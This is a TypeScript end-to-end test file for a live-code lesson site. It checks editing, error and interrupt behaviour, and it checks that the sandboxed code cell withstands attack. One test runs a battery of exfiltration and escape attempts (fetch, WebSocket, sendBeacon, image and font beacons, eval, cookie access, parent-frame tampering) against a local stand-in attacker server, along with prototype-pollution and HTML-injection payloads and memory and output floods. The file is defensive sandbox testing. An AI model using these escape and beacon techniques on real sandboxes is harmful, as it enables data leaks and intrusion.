/** A code cell in the built site, under its own policy: written, broken, interrupted, kept; and attacked, after which the lesson still works. */
import { createServer } from 'node:http';
import type { AddressInfo } from 'node:net';
import type { Locator, Page } from 'playwright';
import { expect, inject, it } from 'vitest';
import { button, cell, figure, letReadersIn } from './reader';

const enter = letReadersIn();

const route = '#/lesson/train-a-network-live';
const badge = (code: Locator) => code.locator('.badge').textContent();
const outputs = async (code: Locator) => ((await code.locator('.outputs').textContent()) ?? '').replace(/\s+/g, ' ').trim();

async function write(page: Page, code: Locator, text: string): Promise<void> {
  await code.getByRole('textbox', { name: 'Code' }).click();
  await code.locator('.cm-content').waitFor();
  await page.keyboard.press('Control+a');
  await page.keyboard.insertText(text);
}

async function run(page: Page, code: Locator, text: string): Promise<string> {
  await write(page, code, text);
  await page.keyboard.press('Shift+Enter');
  await expect.poll(() => badge(code)).toMatch(/^(ok|error)/);
  return badge(code).then((state) => state ?? '');
}

it('writes code, breaks it, interrupts it, leaves, and finds it again', async () => {
  const { page, heard, leave } = await enter(route);
  const code = cell(page, 'A learning rate, by hand');
  await button(code, 'Run').waitFor();
  // Reading a lesson loads neither the editor nor the sandbox.
  const loaded = () => page.evaluate(() => performance.getEntriesByType('resource').map(({ name }) => name));
  expect((await loaded()).filter((name) => /editor|start-|parse/.test(name))).toEqual([]);
  expect(await page.locator('iframe').count()).toBe(0);

  await button(code, 'Run').click();
  await expect.poll(() => badge(code)).toBe('ok');
  await code.getByRole('img', { name: 'Chart 1' }).waitFor();

  expect(await run(page, code, 'const a = 1;\na.b.c')).toMatch(/^error/);
  await code.getByText('Line 2, column 5').waitFor();

  await write(page, code, 'for (;;) {}');
  await page.keyboard.press('Shift+Enter');
  await code.getByText(/Still running: \d+ s/).waitFor();
  // The page answers while the loop runs: a network trains.
  const net = cell(page, 'A network to play with');
  await button(net, 'Train').click();
  await expect.poll(() => figure(net, 'Epoch')).toBeGreaterThan(1);
  await button(net, 'Pause').click();
  const before = Date.now();
  await button(code, 'Interrupt').click();
  await code.getByText(/Interrupted after/).waitFor();
  expect(Date.now() - before).toBeLessThan(2000);

  expect(await run(page, code, 'const mine = 6 * 7;\nmine')).toBe('ok · edited');
  expect(await outputs(code)).toBe('42');
  await page.goto(`${inject('site')}#/glossary`);
  await page.goto(inject('site') + route);
  await page.reload();
  await expect.poll(() => badge(code)).toBe('idle · edited');
  await code.getByText('const mine = 6 * 7;').waitFor();
  await button(code, 'Reset').click();
  await expect.poll(() => badge(code)).toBe('idle');
  expect(heard).toEqual([]);
  await leave();
});

const attacks = `
const home = 'SITE';
const found = {};
const attempt = async (name, work) => {
  try { await work(); found[name] = 'through'; } catch (error) { found[name] = 'refused'; }
};
await attempt('fetch', () => fetch(home + 'beacon-fetch'));
await attempt('XMLHttpRequest', () => new XMLHttpRequest().open('GET', home + 'beacon-xhr'));
await attempt('WebSocket', () => new WebSocket(home.replace('http', 'ws') + 'beacon-ws'));
await attempt('EventSource', () => new EventSource(home + 'beacon-es'));
await attempt('importScripts', () => importScripts(home + 'beacon-scripts'));
await attempt('sendBeacon', () => navigator.sendBeacon(home + 'beacon-send'));
await attempt('indexedDB', () => indexedDB.open('forward-pass'));
await attempt('localStorage', () => localStorage.setItem('a', 'b'));
await attempt('cookies', () => { document.cookie = 'a=b'; });
await attempt('parent', () => { parent.document.title = 'attacked'; });
await attempt('top', () => { top.location = 'about:blank'; });
await attempt('location', () => { location.href = home + 'beacon-location'; if (!location.href.startsWith('blob:')) return; throw 0; });
await attempt('open', () => open(home + 'beacon-open'));
await attempt('image', () => { new Image().src = home + 'beacon-image'; });
await attempt('typeface', () => new FontFace('beacon', 'url(' + home + 'beacon-font)').load());
await attempt('style', () => document.head.append('@import "' + home + 'beacon-style"'));
await attempt('DNS prefetch', () => { document.createElement('link').rel = 'dns-prefetch'; });
await attempt('eval', () => (0, eval)('1'));
await attempt('Function', () => new Function('return 1')());
await attempt('AsyncFunction', () => (async () => {}).constructor('return 1')());
await attempt('timeout text', async () => { setTimeout('self.ran = 1'); await new Promise((r) => setTimeout(r, 50)); if (!self.ran) throw 0; });
await attempt('postMessage', () => postMessage({ type: 'done', run: 1, value: 666 }));
await attempt('the prototype’s postMessage', () => Object.getPrototypeOf(self).postMessage.call(self, { type: 'done', run: 1, value: 666 }));
await attempt('close', () => close());
await attempt('Worker', () => new Worker(URL.createObjectURL(new Blob(['']))));
await attempt('WebTransport', () => new WebTransport('https://example.org'));
JSON.stringify(Object.entries(found).filter(([, result]) => result !== 'refused'))`;

/** A server of the attacker's, which writes down who calls: a request that the policy refuses never comes so far. */
async function listen() {
  const requests: string[] = [];
  const server = createServer(({ url }, response) => {
    requests.push(url ?? '');
    response.writeHead(200, { 'Access-Control-Allow-Origin': '*', 'Cross-Origin-Resource-Policy': 'cross-origin' }).end();
  });
  server.on('upgrade', ({ url }, socket) => {
    requests.push(url ?? '');
    socket.destroy();
  });
  await new Promise<void>((ready) => server.listen(0, '127.0.0.1', ready));
  const site = `http://127.0.0.1:${(server.address() as AddressInfo).port}/`;
  return { site, requests, close: () => new Promise((done) => server.close(done)) };
}

/** Tries text as script in the page: not straight from the test, whose evaluation the policy lets through. */
const ownScripts = () =>
  new Promise<{ inline: string; evaluated: string }>((resolve) => {
    setTimeout(() => {
      const script = document.createElement('script');
      script.textContent = 'document.documentElement.dataset.inline = "through"';
      document.head.append(script);
      let evaluated = 'refused';
      try {
        // oxlint-disable-next-line no-eval -- it is here to be refused
        evaluated = (0, eval)('"through"') as string;
      } catch {
        // as it should be
      }
      resolve({ inline: document.documentElement.dataset.inline ?? 'refused', evaluated });
    });
  });

it('lets no attack out, and the lesson works afterwards', async () => {
  const { page, leave } = await enter(route);
  const { site, requests, close } = await listen();
  const code = cell(page, 'A learning rate, by hand');

  expect(await run(page, code, attacks.replace('SITE', site))).toMatch(/^ok/);
  expect(await outputs(code)).toBe('[]');
  expect(requests).toEqual([]);
  expect(await page.title()).toContain('Forward Pass');

  // The page itself takes no script text either, but for the sandbox's own by its hash.
  expect(await page.evaluate(ownScripts)).toEqual({ inline: 'refused', evaluated: 'refused' });

  expect(await run(page, code, `import('${site}beacon-import')`)).toMatch(/^error/);

  // What a chart is given cannot name an address.
  await run(
    page,
    code,
    `Plot.plot({ marks: [Plot.dot([[1, 2], [2, 3]], { fill: ['url(${site}a)', 'b'] }), Plot.text([[1, 1]], { text: ['<img src=${site}b>'], fill: 'url(${site}c)' })] })`,
  );
  await code.getByRole('img', { name: 'Chart 1' }).locator('circle').first().waitFor({ state: 'attached' });
  expect(await run(page, code, `Plot.dot([[1, 2]], { href: 'x' })`)).toMatch(/^error/);
  // Nor is what it shows ever HTML.
  const beacons = `<link rel=dns-prefetch href=${site}><img src=${site}d><style>@import "${site}e"</style>`;
  expect(await run(page, code, `display([{ [\`${beacons}\`]: \`${beacons}\` }]); \`${beacons}\``)).toMatch(/^ok/);
  expect(await code.locator('.outputs :is(link, img, style)').count()).toBe(0);

  // A world turned over: the run's own answers may be lost, but nobody else's, and no word is believed.
  await write(
    page,
    code,
    `Object.prototype.toJSON = () => ({ type: 'done', run: 1, value: 666, __proto__: { polluted: true } });
Object.defineProperty(MessageEvent.prototype, 'data', { get() { throw 1; } });
MessagePort.prototype.postMessage = () => {}; Array.prototype.map = () => []; JSON.stringify = () => '{}'; Map.prototype.get = () => 666;
'turned'`,
  );
  await page.keyboard.press('Shift+Enter');
  // It forges the end of another run, so its own has none.
  await code.getByText(/Still running: \d+ s/).waitFor();
  expect(await page.evaluate(() => 'polluted' in {})).toBe(false);
  await button(code, 'Interrupt').click();
  await expect.poll(() => badge(code)).toMatch(/^error/);

  // Too many outputs, too much memory, and promises without end are cut off.
  await write(page, code, 'for (;;) await null');
  await page.keyboard.press('Shift+Enter');
  await code.getByText(/Still running: \d+ s/).waitFor();
  await button(code, 'Interrupt').click();
  await code.getByText(/Interrupted after/).waitFor();
  expect(await run(page, code, `for (let i = 0; i < 20_000; i++) console.log('spam', i); 'end'`)).toMatch(/^ok/);
  expect(await code.locator('.out').count()).toBeLessThanOrEqual(101);
  await code.getByText(/more left out/).waitFor();
  await run(
    page,
    code,
    `const hoard = []; try { for (let i = 0; i < 64; i++) hoard.push(new ArrayBuffer(2 ** 31)); } catch (error) { error.name }`,
  );
  expect(await run(page, code, `'still here'`)).toMatch(/^ok/);
  expect(await outputs(code)).toBe('still here');

  const net = cell(page, 'A network to play with');
  await button(net, 'Train').click();
  await expect.poll(() => figure(net, 'Epoch')).toBeGreaterThan(1);
  expect(requests).toEqual([]);
  await close();
  await leave();
});

it('does by hand what the network does', async () => {
  const { page, heard, leave } = await enter('#/lesson/two-phases-one-network');
  const code = cell(page, 'The forward pass, by hand');
  const net = cell(page, 'One network, two phases');
  await button(net, 'Train').click();
  await expect.poll(() => figure(net, 'Epoch')).toBeGreaterThan(1);
  await button(net, 'Pause').click();
  await button(net, 'Train').waitFor();
  await button(code, 'Run').click();
  await expect.poll(() => badge(code)).toBe('ok');
  const rows = code.locator('tbody tr');
  // The table's own module comes after the cell has run.
  await expect.poll(() => rows.count()).toBe(6);
  for (const row of await rows.allInnerTexts()) {
    const [, , byHand, network] = row.trim().split(/\s+/).map(Number);
    expect(byHand).toBeCloseTo(network, 5);
  }
  await button(net, 'Step').click();
  await expect.poll(() => badge(code)).toMatch(/^stale/);

  await page.goto(`${inject('site')}#/lesson/switch-to-inference`);
  const places = cell(page, 'Median and p95, by hand');
  await button(places, 'Run').click();
  await expect.poll(() => badge(places)).toBe('error');
  await places.getByText(/\$net\.report\b.* are not there yet/).waitFor();
  expect(heard).toEqual([]);
  await leave();
});
